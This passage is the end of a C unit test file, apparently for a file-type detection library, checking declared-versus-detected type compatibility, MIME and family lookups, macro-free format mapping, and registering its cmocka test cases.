		if (filetype_compatible(c[i].declared, c[i].detected) != c[i].ok)
			fail_msg("compatible(%s, %s) != %d",
			    filetype_name(c[i].declared),
			    filetype_name(c[i].detected), c[i].ok);
	}
}

static void
test_table(void **state)
{
	ASSERT_TYPE(FT_URL, filetype_from_mime(filetype_mime(FT_URL)));
	assert_int_equal(filetype_family(FT_URL), FAMILY_SHORTCUT);
	assert_string_equal(filetype_name(FT_COUNT), "unknown");
	assert_int_equal(filetype_family((enum file_type)-1), FAMILY_UNKNOWN);
	assert_int_equal(filetype_macro_free(FT_XLAM), FT_XLSX);
	assert_int_equal(filetype_macro_free(FT_PDF), FT_PDF);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ooxml_main_types),
		cmocka_unit_test(test_ooxml_resolution),
		cmocka_unit_test(test_zip_other),
		cmocka_unit_test(test_zip_entry_limit),
		cmocka_unit_test(test_documents),
		cmocka_unit_test(test_archives),
		cmocka_unit_test(test_disk_images),
		cmocka_unit_test(test_images),
		cmocka_unit_test(test_programs),
		cmocka_unit_test(test_text_encodings),
		cmocka_unit_test(test_markup),
		cmocka_unit_test(test_scripts),
		cmocka_unit_test(test_text_special),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_mimes),
		cmocka_unit_test(test_compatible),
		cmocka_unit_test(test_table),
	};

	limits_init(&lim);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
